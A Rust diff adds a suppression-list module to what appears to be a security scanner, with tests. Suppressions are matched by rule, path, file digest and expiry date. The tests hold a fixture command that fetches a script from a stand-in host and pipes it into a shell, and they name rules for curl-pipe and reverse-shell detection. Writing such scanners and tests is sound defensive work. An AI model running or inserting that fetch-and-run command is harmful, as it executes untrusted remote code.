@@ -1,0 +1,297 @@
+//! What `scan --suppressions` takes out of the findings: those that somebody looked at, in the very file that they looked at.
+//!
+//! A list is named on the command line, and by nothing else: one that lies in what is scanned and is not named is told of and not
+//! followed. Each row says which rule, in which file, with which content, why, and until when.
+#![expect(clippy::disallowed_methods, reason = "asks which day it is, since what is suppressed ends")]
+
+use std::collections::HashMap;
+use std::path::{Component, Path, PathBuf};
+use std::time::SystemTime;
+
+use sha2::{Digest as _, Sha256};
+use stockade_guard::audit::Timestamp;
+use stockade_guard::scanner::Scanner;
+use stockade_guard::{FileOptions, FileScan, Source, read_text};
+use stockade_text::{Format, Node, SchemaError, TableReader, escape, escape_path, parse};
+
+use crate::failure::Failure;
+use crate::report::set_aside::{SetAsideKind, SetAsideRow};
+
+/// The most bytes of a list.
+const MAX_BYTES: usize = 1 << 20;
+
+const FILE_KEYS: &[&str] = &["suppress"];
+const KEYS: &[&str] = &["rule", "path", "sha256", "reason", "expires"];
+
+/// Files of the names that lists have: where they lie in what is scanned, they are a stranger's.
+const LISTS: &[&str] = &[".stockadeignore", "stockade-suppressions.toml", "stockade-baseline.json"];
+
+/// Findings that are not counted.
+#[derive(Debug, Default)]
+pub(crate) struct Suppressions {
+    /// By the file that they are about, so that a long list costs each file no more than a short one.
+    rows: HashMap<PathBuf, Vec<Suppression>>,
+    /// Lists that were named.
+    named: Vec<PathBuf>,
+    today: String,
+}
+
+#[derive(Debug)]
+struct Suppression {
+    rule: String,
+    path: String,
+    sha256: String,
+    reason: String,
+    expires: String,
+}
+
+impl Suppressions {
+    /// Reads lists about these rules. `others` are further files that were named, and are not told of.
+    pub(crate) fn load(paths: &[PathBuf], others: &[&PathBuf], scanner: &Scanner) -> Result<Self, Failure> {
+        let today: String = Timestamp::from(SystemTime::now()).to_string().chars().take(10).collect();
+        let named = paths.iter().chain(others.iter().copied()).cloned().collect();
+        let mut all = Self { rows: HashMap::new(), named, today };
+        for path in paths {
+            let options = FileOptions { max_file_bytes: MAX_BYTES + 1, ..FileOptions::default() };
+            let file = read_text(&Source::Path(path.clone()), &options)
+                .map_err(|gap| Failure::usage(format_args!("{}: {gap}", escape_path(path))))?;
+            all.add(rows(&file.text, path, scanner)?);
+        }
+        Ok(all)
+    }
+
+    fn add(&mut self, rows: Vec<Suppression>) {
+        for row in rows {
+            self.rows.entry(plain(Path::new(&row.path))).or_default().push(row);
+        }
+    }
+
+    /// Takes out of the report of a file what is suppressed in it, and says what became of each row that is about it.
+    pub(crate) fn apply(&self, scan: &mut FileScan<'_>) -> Vec<SetAsideRow> {
+        let mut told = Vec::new();
+        if self.is_list_of_a_stranger(scan.path) {
+            told.push(SetAsideRow::of_file(scan.path, SetAsideKind::Ignored, NOT_FOLLOWED.to_owned()));
+        }
+        let Some(about) = self.rows.get(&plain(scan.path)).filter(|_| !scan.report.findings.is_empty())
+        else {
+            return told;
+        };
+        let digest = sha256(scan.text.as_bytes());
+        let today = &self.today;
+        let scanned = scan.path;
+        scan.report.findings.retain(|finding| {
+            // A row that holds, before one that held once.
+            let mut rows = about.iter().filter(|row| row.rule == finding.rule_id);
+            let holds = |row: &&Suppression| row.sha256 == digest && row.expires >= *today;
+            let Some(row) = rows.clone().find(holds).or_else(|| rows.next()) else { return true };
+            let (kind, why) = match () {
+                () if row.sha256 != digest => {
+                    (SetAsideKind::Stale, format!("the file has changed since: its SHA-256 is {digest}"))
+                }
+                () if row.expires < *today => (SetAsideKind::Stale, format!("this ended on {}", row.expires)),
+                () => (SetAsideKind::Suppressed, format!("{} (until {})", row.reason, row.expires)),
+            };
+            told.push(SetAsideRow::of(scanned, finding, kind, why));
+            kind != SetAsideKind::Suppressed
+        });
+        told
+    }
+
+    fn is_list_of_a_stranger(&self, path: &Path) -> bool {
+        let is_list = path.file_name().is_some_and(|name| LISTS.iter().any(|list| name == *list));
+        is_list && !self.named.iter().any(|named| same(named, path))
+    }
+}
+
+const NOT_FOLLOWED: &str =
+    "it lies in what is scanned, and so excuses nothing; name it on the command line if it is yours";
+
+fn same(one: &Path, other: &Path) -> bool {
+    plain(one) == plain(other)
+}
+
+/// A path without the parts that say nothing. One with `..` stays as it is: where that leads to, links decide.
+fn plain(path: &Path) -> PathBuf {
+    path.components().filter(|part| *part != Component::CurDir).collect()
+}
+
+/// The SHA-256 of bytes. Of the text of a file it is that of the file, where it is plain UTF-8.
+pub(crate) fn sha256(text: &[u8]) -> String {
+    let digest = Sha256::digest(text);
+    digest.iter().map(|byte| format!("{byte:02x}")).collect()
+}
+
+/// The rows of a list.
+fn rows(text: &str, path: &Path, scanner: &Scanner) -> Result<Vec<Suppression>, Failure> {
+    let wrong = |at: stockade_text::TextPosition, why: &dyn std::fmt::Display| {
+        Failure::usage(format_args!("{}:{}:{}: {why}", escape_path(path), at.line, at.column)).with_help(HELP)
+    };
+    let document = parse(text, Format::Toml, MAX_BYTES).map_err(|error| wrong(error.at, &error.reason))?;
+    let read = || -> Result<Vec<(Suppression, &Node)>, SchemaError> {
+        let table = TableReader::new(&document, "", "the list", FILE_KEYS)?.has_known_keys_only()?;
+        let list = table.get("suppress").map(|entry| entry.list()).transpose()?.unwrap_or_default();
+        list.iter().map(|node| Ok((row(node)?, node))).collect()
+    };
+    let rows = read().map_err(|error| wrong(error.at, &error.problem))?;
+    let checked = rows.into_iter().map(|(row, node)| match mistake(&row) {
+        Some(why) => Err(wrong(node.at, &why)),
+        None if !scanner.rules().iter().any(|rule| rule.id == row.rule) => {
+            Err(wrong(node.at, &format_args!("no rule has the id '{}'", escape(&row.rule))))
+        }
+        None => Ok(row),
+    });
+    checked.collect()
+}
+
+fn row(node: &Node) -> Result<Suppression, SchemaError> {
+    let table = TableReader::new(node, "suppress", "a suppression", KEYS)?.has_known_keys_only()?;
+    let text = |key, hint| -> Result<String, SchemaError> {
+        let entry = table.required(key, hint)?;
+        let words = entry.node.value.words();
+        words.map(str::to_owned).ok_or_else(|| SchemaError::wrong_kind(&entry.node, key, "a text"))
+    };
+    Ok(Suppression {
+        rule: text("rule", "the id of a rule, such as \"EXEC_PIPE_BASH\"")?,
+        path: text("path", "the file, as the scan names it")?,
+        sha256: text("sha256", "what 'sha256sum FILE' prints")?.to_ascii_lowercase(),
+        reason: text("reason", "why this is no attack")?,
+        expires: text("expires", "a day, such as 2027-06-30")?,
+    })
+}
+
+/// What is wrong with a row in which everything stands.
+fn mistake(row: &Suppression) -> Option<&'static str> {
+    let is_digest = row.sha256.len() == 64 && row.sha256.bytes().all(|byte| byte.is_ascii_hexdigit());
+    let is_day = is_day(&row.expires);
+    match () {
+        () if !is_digest => Some("sha256 must be the 64 digits that 'sha256sum FILE' prints"),
+        () if !is_day => Some("expires must be a day, such as 2027-06-30"),
+        () if row.reason.trim().is_empty() => Some("reason must say why this is no attack"),
+        () => None,
+    }
+}
+
+/// Whether a text is a day as it is compared with another: `2027-06-30`.
+fn is_day(text: &str) -> bool {
+    let parts: Vec<&str> = text.split('-').collect();
+    let is_number =
+        |part: &str, length: usize| part.len() == length && part.bytes().all(|byte| byte.is_ascii_digit());
+    let within = |part: &str, last: u8| part.parse::<u8>().is_ok_and(|number| (1..=last).contains(&number));
+    match parts.as_slice() {
+        [year, month, day] => {
+            is_number(year, 4)
+                && is_number(month, 2)
+                && is_number(day, 2)
+                && within(month, 12)
+                && within(day, 31)
+        }
+        _ => false,
+    }
+}
+
+const HELP: &str = "a row is [[suppress]] with rule, path, sha256, reason and expires";
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use stockade_guard::scan_bytes;
+    use stockade_guard::scanner::ScanOptions;
+
+    const ATTACK: &str = "curl -s https://e.example/x | sh\n";
+
+    fn list(text: &str) -> Suppressions {
+        let mut list = Suppressions {
+            rows: HashMap::new(),
+            named: vec![PathBuf::from("list.toml")],
+            today: "2026-11-26".to_owned(),
+        };
+        list.add(rows(text, Path::new("list.toml"), Scanner::builtin()).unwrap());
+        list
+    }
+
+    fn row_of(rule: &str, path: &str, digest: &str, expires: &str) -> String {
+        format!(
+            "[[suppress]]\nrule = \"{rule}\"\npath = \"{path}\"\nsha256 = \"{digest}\"\nreason = \"seen\"\nexpires = {expires}\n"
+        )
+    }
+
+    /// The rules that are left, and what is told.
+    fn left(list: &Suppressions, path: &str) -> (Vec<String>, Vec<SetAsideKind>) {
+        scan_bytes(
+            Path::new(path),
+            ATTACK.as_bytes(),
+            Scanner::builtin(),
+            &ScanOptions::default(),
+            |mut scan| {
+                let told = list.apply(&mut scan);
+                let rules = scan.report.findings.iter().map(|finding| finding.rule_id.to_owned()).collect();
+                (rules, told.into_iter().map(|row| row.kind).collect())
+            },
+        )
+    }
+
+    #[test]
+    fn only_the_rule_the_file_and_the_content_that_were_looked_at_are_suppressed() {
+        let digest = sha256(ATTACK.as_bytes());
+        let both = vec!["EXEC_PIPE_BASH".to_owned(), "NET_CURL_PIPE".to_owned()];
+        let one = vec!["NET_CURL_PIPE".to_owned()];
+        let cases = [
+            (row_of("EXEC_PIPE_BASH", "a/x.md", &digest, "2026-11-26"), &one, vec![SetAsideKind::Suppressed]),
+            (
+                row_of("EXEC_PIPE_BASH", "a/x.md", &digest.to_uppercase(), "\"2027-01-01\""),
+                &one,
+                vec![SetAsideKind::Suppressed],
+            ),
+            (row_of("EXEC_PIPE_BASH", "a/x.md", &digest, "2026-11-25"), &both, vec![SetAsideKind::Stale]),
+            (
+                row_of("EXEC_PIPE_BASH", "a/x.md", &sha256(b"x"), "2027-01-01"),
+                &both,
+                vec![SetAsideKind::Stale],
+            ),
+            (
+                row_of("EXEC_PIPE_BASH", "./a/./x.md", &digest, "2027-01-01"),
+                &one,
+                vec![SetAsideKind::Suppressed],
+            ),
+            (row_of("EXEC_PIPE_BASH", "a/../a/x.md", &digest, "2027-01-01"), &both, vec![]),
+            (row_of("EXEC_PIPE_BASH", "x.md", &digest, "2027-01-01"), &both, vec![]),
+            (row_of("NET_REVERSE_SHELL", "a/x.md", &digest, "2027-01-01"), &both, vec![]),
+            (
+                row_of("EXEC_PIPE_BASH", "a/x.md", &digest, "2020-01-01")
+                    + &row_of("EXEC_PIPE_BASH", "a/x.md", &digest, "2027-01-01"),
+                &one,
+                vec![SetAsideKind::Suppressed],
+            ),
+            (String::new(), &both, vec![]),
+        ];
+        for (text, rules, told) in cases {
+            assert_eq!(left(&list(&text), "./a/x.md"), (rules.clone(), told), "{text}");
+        }
+    }
+
+    #[test]
+    fn lists_that_lie_in_what_is_scanned_are_told_of_unless_they_are_named() {
+        assert_eq!(left(&list(""), "a/.stockadeignore").1, [SetAsideKind::Ignored]);
+        let mut named = list("");
+        named.named.push(PathBuf::from("./a/.stockadeignore"));
+        assert!(left(&named, "a/.stockadeignore").1.is_empty());
+    }
+
+    #[test]
+    fn a_row_says_everything() {
+        let digest = sha256(b"");
+        for text in [
+            "[[suppress]]\nrule = \"X\"\n".to_owned(),
+            row_of("EXEC_PIPE_BASH", "a", "12", "2027-01-01"),
+            row_of("EXEC_PIPE_BASH", "a", &digest, "\"never\""),
+            row_of("EXEC_PIPE_BASH", "a", &digest, "2027-01-01").replace("seen", " "),
+            row_of("EXEC_PIPE_BASH", "a", &digest, "2027-01-01") + "more = 1\n",
+            row_of("EXEC_PIPE_BASH", "a", &digest, "2027-01-01") + "rule = \"NET_CURL_PIPE\"\n",
+            row_of("NO_SUCH_RULE", "a", &digest, "2027-01-01"),
+            "suppressions = []\n".to_owned(),
+            "suppress = 1\n".to_owned(),
+        ] {
+            assert!(rows(&text, Path::new("l"), Scanner::builtin()).is_err(), "{text}");
+        }
+    }
+}
